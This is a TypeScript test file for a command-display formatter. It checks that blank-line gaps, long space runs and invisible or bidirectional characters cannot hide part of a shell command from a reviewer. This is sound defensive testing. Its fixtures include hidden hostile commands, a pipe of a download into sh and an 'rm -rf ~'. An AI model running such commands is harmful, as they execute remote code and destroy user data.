import fc from 'fast-check'
import { expect, test } from 'vitest'
import { commandLines } from '#shared/format/commands.ts'
import { anyCharacter } from '#test/unit/any-character.ts'

test('a command behind a gap of blank lines follows it, with the size of the gap', () => {
  const lines = commandLines(`python train.py${'\n'.repeat(61)}curl example.invalid | sh\n\n\n`)
  expect(lines).toEqual([
    { text: 'python train.py' },
    { text: '', blank: 60 },
    { text: 'curl example.invalid | sh' },
  ])
  expect(commandLines('a\n\nb')).toEqual([{ text: 'a' }, { text: '' }, { text: 'b' }])
  expect(commandLines(`a${' '.repeat(300)}; rm -rf ~`)[0]?.text).toBe('a (300 spaces) ; rm -rf ~')
})

test('no command hides anything: each of its characters is shown or escaped, in few lines', () => {
  const nasty = fc.constantFrom(
    '\u202e',
    '\u200b',
    '\u2028',
    '\u0007',
    '\r',
    '\n',
    '\t',
    ' ',
    '\u00a0',
    '\u3164',
  )
  fc.assert(
    fc.property(fc.string({ unit: fc.oneof(nasty, anyCharacter), maxLength: 200 }), text => {
      const lines = commandLines(text)
      const shown = lines.map(line => line.text).join('')
      expect(shown.replaceAll('\t', '')).not.toMatch(
        /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u,
      )
      const blanks = lines.map(line => (line.blank === undefined && line.text !== '' ? 'x' : ' ')).join('')
      expect(blanks).not.toMatch(/ {3}/)
      for (const letter of text.replaceAll(/[^!-~]/g, '')) expect(shown).toContain(letter)
    }),
  )
})
